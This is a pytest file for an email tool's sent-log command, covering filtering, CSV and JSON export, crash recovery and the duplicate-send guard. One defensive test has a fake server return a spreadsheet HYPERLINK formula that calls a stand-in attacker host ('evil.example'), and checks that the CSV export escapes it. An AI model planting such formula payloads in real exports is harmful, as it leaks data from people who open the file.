"""`python send.py log`: the table, every filter, `log show`, JSON and CSV for scripts, a torn line, an
interrupted send shown as unknown, the duplicate guard, and no heavy import for commands that do not send.

Filter tests write the log with SentLog.append (no server needed) and run the CLI in-process;
end-to-end tests send through a real loopback server with `make_account`.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from datetime import UTC, datetime, timedelta, timezone
from email.message import EmailMessage
from email.policy import SMTP

import pytest
from conftest import SCRUB, SEND_PY, WITHDRAW_ARGS, clean_environ

from jobmail.cli import main
from jobmail.cli.views import CSV_COLUMNS
from jobmail.loopback import Recorder
from jobmail.store.sentlog import SentLog, utc_now

POSIX_ONLY = pytest.mark.skipif(sys.platform.startswith("win"), reason="TZ is read from the environment on POSIX")
HEAVY = ("jinja2", "keyring", "smtplib", "email.mime")
NOW = utc_now()


class Result:
    def __init__(self, code: int, stdout: str, stderr: str):
        self.returncode, self.stdout, self.stderr = code, stdout, stderr

    @property
    def rows(self) -> list[str]:
        """The table's data rows (header, blank line and summary left out)."""
        lines = self.stdout.splitlines()
        return [line for line in lines[1:] if line.strip()][:-1]


@pytest.fixture
def cli(tmp_path, monkeypatch, capsys):
    """Run `send.py log ...` in-process against tmp_path/log: cli("log", "--status", "sent") -> Result."""
    import os

    for key in list(os.environ):
        if key.startswith(SCRUB):
            monkeypatch.delenv(key)
    monkeypatch.setenv("LOG_DIR", str(tmp_path / "log"))
    monkeypatch.setenv("COLUMNS", "200")
    monkeypatch.chdir(tmp_path)  # no .env here

    def run(*argv: str) -> Result:
        capsys.readouterr()
        code = main(list(argv))
        captured = capsys.readouterr()
        return Result(code, captured.out, captured.err)

    run.log = SentLog(tmp_path / "log")
    run.last_output = lambda: capsys.readouterr().out
    return run


def eml(to: str, subject: str, body: str) -> bytes:
    msg = EmailMessage(policy=SMTP)
    msg["From"] = "Alex Example <alex@example.com>"
    msg["To"] = to
    msg["Subject"] = subject
    msg.set_content(body, cte="quoted-printable")
    return msg.as_bytes()


def add(log: SentLog, message_id: str, to: str, subject: str, states: list[tuple], body: str = "Dear team,") -> list:
    """Store the message and append its states: (status, moment, extra fields)."""
    log.store_message(message_id, eml(to, subject, body))
    base = {"from": "alex@example.com", "to": [to], "cc": [], "subject": subject, "message_id": f"<{message_id}@x>"}
    return [log.append({"id": message_id, "status": status, **base, **extra}, at) for status, at, extra in states]


SENT = {"server": "smtp.example.com:587", "tls": "TLSv1.3", "reply": {"code": 250, "text": "2.0.0 Ok: queued as 4F2A"}}
FAILED = {
    "server": "smtp.example.com:587",
    "error": "the server refused the login",
    "reply": {"code": 535, "text": "5.7.8 No"},
}


@pytest.fixture
def sample(cli):
    """Five messages over ten days (NOW-relative), written in time order as they would be:
    sent (a), cancelled (e), failed (b), scheduled (c), sent with a quoted-printable body (d)."""
    log = cli.log
    day = timedelta(days=1)
    written = {}
    written["a"] = add(
        log,
        "aaa111111111",
        "jordan.lee@acme.example.com",
        "Withdrawing my application for the Data Analyst position",
        [("sending", NOW - 10 * day, {"attempt": 1}), ("sent", NOW - 10 * day, {**SENT, "attempts": 1})],
    )
    written["e"] = add(
        log,
        "eee555555555",
        "ops@umbrella.example",
        "Withdrawing",
        [("scheduled", NOW - 6 * day, {"due": NOW.isoformat()}), ("cancelled", NOW - 5 * day, {})],
    )
    written["b"] = add(
        log,
        "bbb222222222",
        "Recruiter@Initech.example",
        "Withdrawing my application",
        [("sending", NOW - 3 * day, {"attempt": 1}), ("failed", NOW - 3 * day, {**FAILED, "attempts": 1})],
    )
    written["c"] = add(
        log,
        "ccc333333333",
        "hr@globex.example",
        'Declining your offer, "with thanks" — Zoë',
        [("scheduled", NOW - 1 * day, {"due": (NOW + 2 * day).isoformat(timespec="milliseconds"), "zone": ""})],
    )
    written["d"] = add(
        log,
        "ddd444444444",
        "jordan.lee@acme.example.com",
        "Following up",
        [("sending", NOW - timedelta(hours=2), {}), ("sent", NOW - timedelta(hours=2), {**SENT, "attempts": 2})],
        body="Dear Jordan,\n\nI will stay at the Zürich office after all.\n",
    )
    return written


def ids(result: Result) -> list[str]:
    return [row.split()[-1] for row in result.rows]


# -- the table -----------------------------------------------------------------------------------


def test_table_shows_the_latest_state_of_each_message_newest_first_with_a_summary(cli, sample):
    result = cli("log")
    assert result.returncode == 0, result.stderr
    header = result.stdout.splitlines()[0]
    assert header.split() == ["TIME", "STATUS", "TO", "SUBJECT", "ID"]
    assert ids(result) == ["ddd44444", "ccc33333", "bbb22222", "eee55555", "aaa11111"]
    rows = dict(zip(ids(result), result.rows, strict=True))
    assert "sent 250" in rows["ddd44444"] and "jordan.lee@acme.example.com" in rows["ddd44444"]
    assert "failed 535" in rows["bbb22222"] and "Recruiter@Initech.example" in rows["bbb22222"]
    assert "scheduled" in rows["ccc33333"] and "Zoë" in rows["ccc33333"]
    # aligned: every column starts at the same place in every line
    starts = [header.index(name) for name in ("STATUS", "TO", "SUBJECT", "ID")]
    for row in result.rows:
        assert all(row[at - 2 : at] == "  " and row[at] != " " for at in starts), row
    assert result.stdout.splitlines()[-1] == "5 messages: 2 sent, 1 scheduled, 1 failed, 1 cancelled"


def test_the_table_fits_the_terminal(cli, sample, monkeypatch):
    monkeypatch.setenv("COLUMNS", "80")
    result = cli("log")
    assert all(len(line) < 80 for line in result.stdout.splitlines()[:-1])
    assert "…" in result.stdout  # the long subject was cut, not wrapped
    assert ids(result)[0] == "ddd44444"  # the id column survives


@POSIX_ONLY
def test_times_are_shown_in_local_time(tmp_path):
    log = SentLog(tmp_path / "log")
    add(log, "aaa111111111", "a@acme.example", "Hi", [("sent", datetime(2026, 11, 1, 9, 0, tzinfo=UTC), SENT)])
    env = {**clean_environ(tmp_path), "LOG_DIR": str(tmp_path / "log"), "TZ": "Asia/Tokyo"}
    result = subprocess.run(
        [sys.executable, str(SEND_PY), "log"], capture_output=True, text=True, env=env, cwd=tmp_path, encoding="utf-8"
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines()[1].startswith("2026-11-01 18:00  sent 250")


def test_the_limit_and_all(cli, sample):
    limited = cli("log", "--limit", "2")
    assert ids(limited) == ["ddd44444", "ccc33333"]
    assert "more exist" in limited.stdout.splitlines()[-1] and "--all" in limited.stdout.splitlines()[-1]
    exact = cli("log", "--limit", "5")
    assert len(ids(exact)) == 5 and "more exist" not in exact.stdout
    assert len(ids(cli("log", "--all", "--limit", "1"))) == 5
    bad = cli("log", "--limit", "0")
    assert bad.returncode == 2 and "--limit" in bad.stderr


def test_an_empty_log_and_no_match_say_so(cli, sample, tmp_path, monkeypatch):
    assert "No message matches" in cli("log", "--to", "nobody").stdout
    monkeypatch.setenv("LOG_DIR", str(tmp_path / "empty"))
    result = cli("log")
    assert result.returncode == 0 and "The sent log is empty" in result.stdout
    assert not (tmp_path / "empty").exists()


# -- filters -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "args, expected",
    [
        (["--status", "sent"], ["ddd44444", "aaa11111"]),
        (["--status", "sent,failed"], ["ddd44444", "bbb22222", "aaa11111"]),
        (["--status", "failed", "--status", "Scheduled"], ["ccc33333", "bbb22222"]),
        (["--status", "sending"], []),  # only the current state counts
        (["--to", "INITECH"], ["bbb22222"]),
        (["--to", "jordan.lee@"], ["ddd44444", "aaa11111"]),
        (["--to", "alex@example.com"], []),  # the sender is not a recipient
        (["--since", "7d"], ["ddd44444", "ccc33333", "bbb22222", "eee55555"]),
        (["--since", "36h"], ["ddd44444", "ccc33333"]),
        (["--until", "7d"], ["aaa11111"]),
        (["--since", "4d", "--until", "2d"], ["bbb22222"]),
        (["--grep", "data analyst"], ["aaa11111"]),  # in the subject
        (["--grep", "zürich OFFICE"], ["ddd44444"]),  # only in the body, quoted-printable on disk
        (["--grep", "withdrawing", "--to", "umbrella"], ["eee55555"]),
        (["--to", "acme", "--status", "sent", "--since", "1d"], ["ddd44444"]),
    ],
)
def test_filters(cli, sample, args, expected):
    result = cli("log", *args)
    assert result.returncode == 0, result.stderr
    assert ids(result) == expected
    if expected:
        assert result.stdout.splitlines()[-1].startswith(f"{len(expected)} message")


def test_since_and_until_take_dates_and_date_times(cli):
    for day in (2, 5, 9):
        at = datetime(2026, 3, day, 12, tzinfo=UTC)
        add(cli.log, f"{day:03d}000000000", "a@acme.example", "Hi", [("sent", at, SENT)])
    assert ids(cli("log", "--since", "2026-03-05")) == ["00900000", "00500000"]
    assert ids(cli("log", "--until", "2026-03-05")) == ["00500000", "00200000"]  # the whole day
    assert ids(cli("log", "--since", "2026-03-05T12:00Z", "--until", "2026-03-05 12:00+00:00")) == ["00500000"]
    assert ids(cli("log", "--since", "2026-03-05T13:00+00:00")) == ["00900000"]


def test_help_names_every_status(cli):
    from jobmail.store.sentlog import STATUSES

    with pytest.raises(SystemExit):
        cli("log", "--help")
    text = " ".join(cli.last_output().split())
    assert all(status in text for status in STATUSES)


@pytest.mark.parametrize(
    "args, words",
    [
        (["--status", "delivered"], ["--status delivered", "sent"]),
        (["--since", "last tuesday"], ["--since", "2026-11-01", "7d"]),
        (["--until", "2026-02-30"], ["--until", "real date"]),
        (["--since", "1d", "--until", "3d"], ["--since", "after --until"]),
        (["frobnicate"], ["log show frobnicate"]),
        (["--raw"], ["--raw goes with show"]),
    ],
)
def test_bad_filter_values_are_one_line_errors(cli, sample, args, words):
    result = cli("log", *args)
    assert result.returncode == 2
    assert result.stderr.startswith("error: ") and result.stderr.count("\n") == 1
    for word in words:
        assert word in result.stderr


# -- for scripts ---------------------------------------------------------------------------------


def test_json_lines_round_trip(cli, sample):
    result = cli("log", "--json", "--all")
    parsed = [json.loads(line) for line in result.stdout.splitlines()]
    expected = [sample[key][-1] for key in ("d", "c", "b", "e", "a")]  # the records as written, newest first
    assert parsed == expected
    assert [json.loads(line)["id"] for line in cli("log", "--json", "--status", "failed").stdout.splitlines()] == [
        "bbb222222222"
    ]


def test_csv_round_trip_with_a_stable_header(cli, sample):
    result = cli("log", "--csv", "--all")
    reader = csv.DictReader(io.StringIO(result.stdout))
    assert tuple(reader.fieldnames) == CSV_COLUMNS
    rows = {row["id"]: row for row in reader}
    assert list(rows) == ["ddd444444444", "ccc333333333", "bbb222222222", "eee555555555", "aaa111111111"]
    scheduled = rows["ccc333333333"]
    assert scheduled["subject"] == 'Declining your offer, "with thanks" — Zoë'  # comma, quotes, non-ASCII
    assert scheduled["status"] == "scheduled" and scheduled["due"] == sample["c"][-1]["due"]
    sent = rows["ddd444444444"]
    assert (sent["reply_code"], sent["reply_text"], sent["attempts"], sent["tls"]) == (
        "250",
        "2.0.0 Ok: queued as 4F2A",
        "2",
        "TLSv1.3",
    )
    assert sent["time"] == sample["d"][-1]["time"] and sent["to"] == "jordan.lee@acme.example.com"
    assert rows["bbb222222222"]["error"] == "the server refused the login"


# -- log show ------------------------------------------------------------------------------------


def test_show_by_prefix_prints_the_history_and_the_stored_message(cli, sample):
    result = cli("log", "show", "ddd4")
    assert result.returncode == 0, result.stderr
    text = result.stdout
    assert text.startswith("Message ddd444444444: sent 250")
    history = [line for line in text.splitlines() if re.match(r"  \d{4}-\d\d-\d\d \d\d:\d\d:\d\d  ", line)]
    assert [line.split()[2] for line in history] == ["sending", "sent"]
    assert "server smtp.example.com:587" in history[1] and "server replied 250 2.0.0 Ok: queued as 4F2A" in history[1]
    assert "2 attempts" in history[1] and "TLSv1.3" in history[1]
    stored = cli.log.read_message("ddd444444444").decode("ascii")
    assert stored.replace("\r\n", "\n").rstrip("\n") in text  # the message itself, as stored
    assert "Z=C3=BCrich" in text  # quoted-printable on disk ...
    assert "I will stay at the Zürich office after all." in text.split("Decoded")[1]  # ... and readable


def test_show_a_failed_message_gives_the_error_and_the_reply(cli, sample):
    text = cli("log", "show", "bbb").stdout
    failed = next(line for line in text.splitlines() if "  failed  " in line)
    assert "server replied 535 5.7.8 No" in failed and "error: the server refused the login" in failed


def test_show_raw_writes_the_exact_bytes(tmp_path):
    log = SentLog(tmp_path / "log")
    add(log, "aaa111111111", "a@acme.example", "Hi", [("sent", NOW, SENT)], body="Grüße\n")
    env = {**clean_environ(tmp_path), "LOG_DIR": str(tmp_path / "log")}
    argv = [sys.executable, str(SEND_PY), "log", "show", "aaa1", "--raw"]
    result = subprocess.run(argv, capture_output=True, env=env, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout == log.read_message("aaa111111111")


def test_show_json_gives_the_whole_history(cli, sample):
    lines = cli("log", "show", "eee", "--json").stdout.splitlines()
    assert [json.loads(line) for line in lines] == sample["e"]


def test_an_ambiguous_prefix_is_an_error_listing_the_candidates(cli, sample):
    add(cli.log, "ddd499999999", "b@acme.example", "Other", [("sent", NOW, SENT)])
    result = cli("log", "show", "ddd4")
    assert result.returncode == 2
    assert "ambiguous" in result.stderr and "ddd444444444" in result.stderr and "ddd499999999" in result.stderr
    assert result.stdout == ""
    assert cli("log", "show", "ddd44").returncode == 0


def test_show_an_unknown_or_missing_id(cli, sample):
    missing = cli("log", "show", "fff")
    assert missing.returncode == 2 and "no message with an id starting 'fff'" in missing.stderr
    bare = cli("log", "show")
    assert bare.returncode == 2 and "log show ID" in bare.stderr


# -- crashes ---------------------------------------------------------------------------------------


def test_a_torn_last_line_is_one_warning_and_the_rest_is_shown(tmp_path):
    log = SentLog(tmp_path / "log")
    add(log, "aaa111111111", "a@acme.example", "First", [("sent", NOW - timedelta(hours=2), SENT)])
    add(log, "bbb222222222", "b@acme.example", "Second", [("sent", NOW - timedelta(hours=1), SENT)])
    add(log, "ccc333333333", "c@acme.example", "Third", [("scheduled", NOW, {"due": NOW.isoformat()})])
    whole = log.path.read_bytes()
    log.path.write_bytes(whole[: len(whole) - 30])  # the process died writing the third record
    env = {**clean_environ(tmp_path), "LOG_DIR": str(tmp_path / "log")}
    run = [sys.executable, str(SEND_PY), "log"]
    result = subprocess.run(run, capture_output=True, text=True, env=env, cwd=tmp_path, encoding="utf-8")
    assert result.returncode == 0
    assert [row.split()[-1] for row in result.stdout.splitlines()[1:3]] == ["bbb22222", "aaa11111"]
    assert "Traceback" not in result.stderr
    assert result.stderr.count("\n") == 1 and result.stderr.startswith("warning: ")
    assert "torn last line" in result.stderr

    log.append({"id": "ddd444444444", "status": "sent", "to": ["d@acme.example"], "subject": "Fourth"})
    assert json.loads(log.path.read_bytes().split(b"\n")[-2])["id"] == "ddd444444444"
    again = subprocess.run(run, capture_output=True, text=True, env=env, cwd=tmp_path, encoding="utf-8")
    assert [row.split()[-1] for row in again.stdout.splitlines()[1:4]] == ["ddd44444", "bbb22222", "aaa11111"]


def test_a_message_left_sending_by_a_dead_process_is_shown_and_recorded_as_unknown(cli):
    add(cli.log, "aaa111111111", "a@acme.example", "Hi", [("sending", NOW, {"server": "smtp.example.com:587"})])
    result = cli("log")
    assert result.rows[0].split()[2] == "unknown"
    current = cli.log.current("aaa111111111")
    assert current["status"] == "unknown" and "check your Sent folder" in current["error"]
    assert current["to"] == ["a@acme.example"]
    assert cli("log", "show", "aaa").stdout.count("  unknown  ") == 1  # recorded once, not at every look


# -- fast to start ---------------------------------------------------------------------------------


def imported_modules(tmp_path, *args: str) -> set[str]:
    env = {**clean_environ(tmp_path), "LOG_DIR": str(tmp_path / "log")}
    result = subprocess.run(
        [sys.executable, "-X", "importtime", str(SEND_PY), *args],
        capture_output=True,
        text=True,
        env=env,
        cwd=tmp_path,
        encoding="utf-8",
    )
    assert result.returncode == 0, result.stderr[-2000:]
    names = {line.rsplit("|", 1)[-1].strip() for line in result.stderr.splitlines() if line.startswith("import time:")}
    assert "jobmail.cli" in names
    return names


def heavy(names: set[str]) -> list[str]:
    return sorted(name for name in names if any(name == h or name.startswith(h + ".") for h in HEAVY))


@pytest.mark.parametrize("args", [["--help"], ["log"], ["log", "--help"], ["log", "--to", "acme", "--json"]])
def test_commands_that_do_not_send_import_no_mail_or_template_library(tmp_path, args):
    log = SentLog(tmp_path / "log")
    add(log, "aaa111111111", "a@acme.example", "Hi", [("sent", NOW, SENT)])
    names = imported_modules(tmp_path, *args)
    assert heavy(names) == []
    assert not any(name == "email" or name.startswith("email.") for name in names)  # not even the parser


def test_listing_the_log_imports_no_pathlib(tmp_path):
    """pathlib (with the urllib.parse and ipaddress it imports) is ~3 ms of `send.py log`'s start-up."""
    log = SentLog(tmp_path / "log")
    add(log, "aaa111111111", "a@acme.example", "Hi", [("sent", NOW, SENT)])
    (tmp_path / "my.env").write_text(f"LOG_DIR={tmp_path / 'log'}\nFROM_NAME=Alex\n", encoding="utf-8")
    for args in (["log"], ["log", "--env-file", "my.env", "--status", "sent"], ["--help"]):
        assert "pathlib" not in imported_modules(tmp_path, *args), args


@pytest.mark.parametrize("lang", ["C.UTF-8", "POSIX", "en_US.UTF-8"])
def test_help_asks_gettext_once_at_most_where_no_catalog_exists(tmp_path, lang):
    """argparse asks gettext for each phrase, and gettext searches the locale folders again every time it
    finds nothing: in the C locale nothing is looked up (locale is not even imported), elsewhere once."""
    env = {k: v for k, v in clean_environ(tmp_path).items() if k not in ("LANGUAGE", "LC_ALL", "LC_MESSAGES")}
    code = (
        "import gettext, runpy, sys\n"
        "calls = []\n"
        "find = gettext.find\n"
        "gettext.find = lambda *a, **k: calls.append(a) or find(*a, **k)\n"
        f"sys.argv = [{str(SEND_PY)!r}, '--help']\n"
        "try:\n"
        "    runpy.run_path(sys.argv[0], run_name='__main__')\n"
        "except SystemExit:\n"
        "    pass\n"
        "print('finds', len(calls), 'locale' in sys.modules, file=sys.stderr)\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, env={**env, "LANG": lang}, cwd=tmp_path
    )
    assert "usage: send.py" in result.stdout, result.stderr
    expected = "finds 1" if lang.startswith("en") else "finds 0 False"
    assert expected in result.stderr.splitlines()[-1]


def _mo_file(path, messages: dict[str, str]) -> None:
    """A GNU gettext catalog (the .mo format: a header, two tables of (length, offset), the strings)."""
    import struct

    entries = {"": "Content-Type: text/plain; charset=UTF-8\n", **messages}
    keys = sorted(entries)
    ids = b"".join(key.encode() + b"\0" for key in keys)
    strs = b"".join(entries[key].encode() + b"\0" for key in keys)
    start_ids = 7 * 4 + 16 * len(keys)
    start_strs = start_ids + len(ids)
    table_ids, table_strs, at_id, at_str = [], [], 0, 0
    for key in keys:
        table_ids += [len(key.encode()), start_ids + at_id]
        table_strs += [len(entries[key].encode()), start_strs + at_str]
        at_id += len(key.encode()) + 1
        at_str += len(entries[key].encode()) + 1
    header = struct.pack("<7I", 0x950412DE, 0, len(keys), 7 * 4, 7 * 4 + 8 * len(keys), 0, 0)
    path.parent.mkdir(parents=True)
    path.write_bytes(header + struct.pack(f"<{4 * len(keys)}I", *table_ids, *table_strs) + ids + strs)


def test_a_translation_of_argparse_that_exists_is_still_used(tmp_path, monkeypatch, capsys):
    import argparse
    import gettext

    _mo_file(tmp_path / "de" / "LC_MESSAGES" / "messages.mo", {"usage: ": "Aufruf: "})
    monkeypatch.setattr(argparse, "_", gettext.gettext)  # as argparse has it, whatever ran before here
    monkeypatch.setattr(argparse, "ngettext", gettext.ngettext)
    monkeypatch.setattr(gettext, "_localedirs", {"messages": str(tmp_path)})
    monkeypatch.setattr(gettext, "_translations", {})
    for name in ("LC_ALL", "LC_MESSAGES", "LANG"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("LANGUAGE", "de")
    with pytest.raises(SystemExit):
        main(["--help"])
    assert capsys.readouterr().out.startswith("Aufruf: send.py")
    assert argparse._ is gettext.gettext  # type: ignore[attr-defined]


def test_show_grep_and_recovering_a_send_import_no_mail_or_template_library(tmp_path):
    log = SentLog(tmp_path / "log")
    add(log, "aaa111111111", "a@acme.example", "Hi", [("sent", NOW, SENT)], body="Grüße aus Zürich\n")
    add(log, "bbb222222222", "b@acme.example", "Hi", [("sending", NOW, {})])  # its sender is gone
    for args in (["log"], ["log", "show", "aaa"], ["log", "--grep", "zürich"]):
        assert heavy(imported_modules(tmp_path, *args)) == [], args
    assert log.current("bbb222222222")["status"] == "unknown"


# -- the duplicate guard, end to end ---------------------------------------------------------------


def test_a_second_identical_send_is_refused_and_force_sends_it(make_account, password):
    account = make_account("starttls")
    account.store_password(password)
    first = account.run(*WITHDRAW_ARGS)
    assert first.returncode == 0, first.stderr
    earlier = account.records()[-1]
    second = account.run(*WITHDRAW_ARGS)
    assert second.returncode == 2
    assert len(account.server.messages) == 1
    assert second.stderr.startswith("error: ") and second.stderr.count("\n") == 1
    local = datetime.fromisoformat(earlier["time"]).astimezone().strftime("%Y-%m-%d %H:%M")
    assert earlier["id"][:8] in second.stderr and local in second.stderr and "--force" in second.stderr
    assert [r["status"] for r in account.records()] == ["sending", "sent"]  # nothing logged for the refusal
    forced = account.run(*WITHDRAW_ARGS, "--force")
    assert forced.returncode == 0, forced.stderr
    assert len(account.server.messages) == 2
    assert account.run("log").stdout.splitlines()[-1] == "2 messages: 2 sent"


def test_a_failed_send_does_not_block_sending_it_again(make_account, password):
    account = make_account("starttls")
    account.store_password("not-" + password)
    failed = account.run(*WITHDRAW_ARGS)
    assert failed.returncode == 1
    account.store_password(password)
    again = account.run(*WITHDRAW_ARGS)
    assert again.returncode == 0, again.stderr
    assert len(account.server.messages) == 1


def test_a_new_user_sees_at_a_glance_what_went_out_and_can_reproduce_it(make_account, password):
    """Done when: after a few sends, one scheduled and one failed, `log` answers 'did it go out, and what
    did the server say', and `log show` reproduces the exact message sent."""
    account = make_account("starttls")
    account.store_password("not-" + password)
    assert account.run(*WITHDRAW_ARGS[:-1], "Initech").returncode == 1
    account.store_password(password)
    assert account.run(*WITHDRAW_ARGS).returncode == 0
    assert account.run(*WITHDRAW_ARGS[:-1], "Globex").returncode == 0
    scheduled = account.run(*WITHDRAW_ARGS[:-1], "Umbrella", "--at", "+2d", "--no-wait")
    assert scheduled.returncode == 0, scheduled.stderr
    table = account.run("log")
    assert table.returncode == 0, table.stderr
    statuses = [" ".join(row.split()[2:4]) for row in table.stdout.splitlines()[1:5]]
    assert statuses == ["scheduled jordan.lee@acme.example.com", "sent 250", "sent 250", "failed 535"]
    assert table.stdout.splitlines()[-1] == "4 messages: 2 sent, 1 scheduled, 1 failed"
    sent_id = next(r["id"] for r in account.records() if r["status"] == "sent")
    shown = account.run("log", "show", sent_id[:6])
    assert "server replied 250 2.0.0 Ok: queued as" in shown.stdout
    raw = subprocess.run(
        [sys.executable, str(SEND_PY), "log", "show", sent_id[:6], "--raw", "--env-file", str(account.env_file)],
        capture_output=True,
        env=account.env,
        cwd=account.home,
    )
    assert raw.stdout in [m.data for m in account.server.messages]  # byte for byte what the server got


def test_log_show_gives_the_due_time_in_the_recipients_zone(make_account, password):
    account = make_account("starttls")
    account.store_password(password)
    queued = account.run(*WITHDRAW_ARGS, "--at", "2099-01-05 09:00", "--tz", "America/New_York", "--no-wait")
    assert queued.returncode == 0, queued.stderr
    short = account.records()[-1]["id"][:8]
    shown = account.run("log", "show", short)
    assert shown.returncode == 0, shown.stderr
    assert "2099-01-05 09:00 in America/New_York" in shown.stdout


def test_a_console_code_page_without_the_characters_never_crashes(make_account, password):
    """Windows writes a redirect in cp1252: the table shows '?', CSV and JSON stay UTF-8, never a traceback."""
    account = make_account("starttls")
    account.store_password(password)
    sent = account.run(*WITHDRAW_ARGS[:-2], "--position", "Analityk – Łódź", "--company", "Acme")
    assert sent.returncode == 0, sent.stderr
    account.env["PYTHONIOENCODING"] = "cp1252"
    table = subprocess.run(
        [sys.executable, str(SEND_PY), "log", "--env-file", str(account.env_file)],
        capture_output=True,
        env=account.env,
        cwd=account.home,
        timeout=60,
    )
    assert table.returncode == 0 and b"Traceback" not in table.stderr
    as_csv = subprocess.run(
        [sys.executable, str(SEND_PY), "log", "--csv", "--env-file", str(account.env_file)],
        capture_output=True,
        env=account.env,
        cwd=account.home,
        timeout=60,
    )
    assert as_csv.returncode == 0, as_csv.stderr
    assert "Analityk – Łódź" in as_csv.stdout.decode("utf-8")


class FormulaReplies(Recorder):
    """A server whose 250 reply is a spreadsheet formula."""

    async def handle_DATA(self, server, session, envelope):
        await super().handle_DATA(server, session, envelope)
        return '250 =HYPERLINK("http://evil.example/?leak=1","click")'


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(make_account, password):
    account = make_account("starttls", handler=FormulaReplies())
    account.store_password(password)
    sent = account.run(*WITHDRAW_ARGS[:-2], "--company=-Acme")
    assert sent.returncode == 0, sent.stderr
    result = account.run("log", "--csv")
    assert result.returncode == 0, result.stderr
    row = next(csv.DictReader(io.StringIO(result.stdout)))
    assert row["reply_text"] == '\'=HYPERLINK("http://evil.example/?leak=1","click")'
    assert row["reply_code"] == "250" and row["status"] == "sent"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("limit", ["99999999999999999999999", "1000001"])
def test_a_huge_limit_is_a_one_line_error(make_account, limit):
    account = make_account("starttls")
    result = account.run("log", "--limit", limit)
    assert result.returncode == 2
    expected = f"error: --limit {limit}: give at most 1000000; to see every message, use --all"
    assert result.stderr.splitlines() == [expected]


def _memory_cap() -> None:
    """In the child: at most 256 MiB of address space (reading a 64 MiB line whole, then parsing it, needs more)."""
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (256 << 20, 256 << 20))


@pytest.mark.skipif(sys.platform.startswith("win"), reason="RLIMIT_AS is POSIX")
@pytest.mark.parametrize("place", ["middle", "last"])
def test_a_huge_line_in_the_log_is_skipped_with_a_warning_without_reading_it_whole(make_account, place):
    account = make_account("starttls")
    log = SentLog(account.log_dir)
    log.append({"id": "aaa111111111", "status": "sent", "to": ["a@acme.example"], "cc": [], "subject": "Older"})
    huge = b'{"id":"bbb222222222","time":"2026-01-01T00:00:00.000+00:00","status":"sent","subject":"'
    huge += b"x" * (64 << 20) + b'"}\n'
    with open(log.file, "ab") as f:
        f.write(huge)
    if place == "middle":
        log.append({"id": "ccc333333333", "status": "sent", "to": ["c@acme.example"], "cc": [], "subject": "Newer"})
    shown = {}
    for args in (("log", "--all"), ("log", "--to", "acme"), ("log", "show", "aaa1")):
        result = subprocess.run(
            account.argv(args),
            capture_output=True,
            text=True,
            env=account.env,
            cwd=account.home,
            timeout=60,
            preexec_fn=_memory_cap,
        )
        assert result.returncode == 0, result.stderr[-2000:]
        assert result.stderr.count("skipped a line of 67,108,") == 1, result.stderr[-2000:]
        assert "xxxx" not in result.stdout + result.stderr
        shown[args[1]] = result.stdout
    assert "aaa11111" in shown["--all"] and "bbb22222" not in shown["--all"]
    assert ("ccc33333" in shown["--to"]) == (place == "middle") and "aaa11111" in shown["--to"]
    assert "Message aaa111111111: sent" in shown["show"]


def test_log_to_matches_cc_and_the_table_shows_cc(make_account, password):
    account = make_account("starttls")
    account.store_password(password)
    with_cc = account.run(*WITHDRAW_ARGS, "--cc", "Recruiter@Initech.example")
    assert with_cc.returncode == 0, with_cc.stderr
    without = account.run(*WITHDRAW_ARGS[:3], "sam@umbrella.example", *WITHDRAW_ARGS[4:])
    assert without.returncode == 0, without.stderr
    account.env["COLUMNS"] = "200"
    found = account.run("log", "--to", "initech")
    assert found.returncode == 0, found.stderr
    header, *rows = [line for line in found.stdout.splitlines() if line.strip()][:-1]
    assert header.split() == ["TIME", "STATUS", "TO", "CC", "SUBJECT", "ID"]
    assert len(rows) == 1 and "jordan.lee@acme.example.com  Recruiter@initech.example  " in rows[0]
    assert found.stdout.splitlines()[-1].startswith("1 message matching")
    everything = account.run("log")
    lines = everything.stdout.splitlines()
    assert lines[0].split() == ["TIME", "STATUS", "TO", "CC", "SUBJECT", "ID"]
    assert "umbrella" not in account.run("log", "--to", "initech", "--json").stdout
    plain = account.run("log", "--to", "umbrella")
    assert plain.stdout.splitlines()[0].split() == ["TIME", "STATUS", "TO", "SUBJECT", "ID"]  # no Cc: no column


@POSIX_ONLY
def test_csv_has_local_date_and_time_columns_and_the_job(make_account, password):
    account = make_account("starttls")
    account.store_password(password)
    sent = account.run(*WITHDRAW_ARGS, "--cc", "hr@acme.example.com")
    assert sent.returncode == 0, sent.stderr
    older = {"id": "0ld000000000", "status": "sent", "to": ["sam@umbrella.example"], "cc": [], "subject": "Old"}
    SentLog(account.log_dir).append(older, datetime(2026, 1, 31, 20, 30, 15, tzinfo=UTC))  # before the new fields
    account.env["TZ"] = "KTM-5:45"  # a POSIX zone: UTC+05:45, no zone files needed
    result = account.run("log", "--csv", "--all")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [row["id"] for row in rows] == ["0ld000000000", account.records()[-2]["id"]]
    old, new = rows
    assert (old["date"], old["local_time"], old["time"]) == ("2026-02-01", "02:15:15", "2026-01-31T20:30:15.000+00:00")
    assert (old["company"], old["position"], old["template"]) == ("", "", "")
    local = datetime.fromisoformat(new["time"]).astimezone(timezone(timedelta(hours=5, minutes=45)))
    assert (new["date"], new["local_time"]) == (f"{local:%Y-%m-%d}", f"{local:%H:%M:%S}")
    assert new["time"].endswith("+00:00")
    assert (new["company"], new["position"], new["template"]) == ("Acme", "Data Analyst", "withdraw")
    assert new["cc"] == "hr@acme.example.com"
    shown = account.run("log", "show", new["id"][:8])
    assert "Company:     Acme" in shown.stdout and "Position:    Data Analyst" in shown.stdout
    assert "company:" not in shown.stdout  # shown once, not with each state
